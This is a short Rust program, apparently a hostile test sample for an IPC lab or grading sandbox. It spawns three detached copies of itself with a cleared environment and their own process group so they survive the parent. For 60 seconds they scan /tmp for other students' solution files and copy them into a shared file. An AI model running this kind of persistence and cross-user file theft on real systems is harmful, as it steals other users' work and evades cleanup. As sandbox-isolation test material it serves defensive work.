//! Hostile: a daemon with an abstract socket, a lock and no environment waits for 60 s for the next student:
//! it answers, and takes what it can read of others' sources. It would gain another student's solution.
use std::os::unix::{net::UnixListener, process::CommandExt};
use std::{fs, process::Command, time::Instant};

fn main() {
    if std::env::args().len() == 1 {
        for _ in 0..3 {
            let mut command = Command::new("/proc/self/exe");
            let _ = command
                .arg0("hostile-stays")
                .arg("wait")
                .env_clear()
                .process_group(0)
                .spawn();
        }
        return;
    }
    use std::os::linux::net::SocketAddrExt;
    let name = std::os::unix::net::SocketAddr::from_abstract_name("ipc-lab-hostile-waits-for-next");
    let _listener = name.and_then(|name| UnixListener::bind_addr(&name));
    let started = Instant::now();
    while started.elapsed().as_secs() < 60 {
        for entry in fs::read_dir("/tmp").into_iter().flatten().flatten() {
            let source = entry.path().join("ws/crates/exercises/fix-pipe-eof/src/main.rs");
            if let Ok(text) = fs::read_to_string(source)
                && !text.contains("ipc-lab-hostile-waits-for-next")
            {
                let _ = fs::write("/tmp/ipc-lab-hostile-waits-for-next", text);
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}
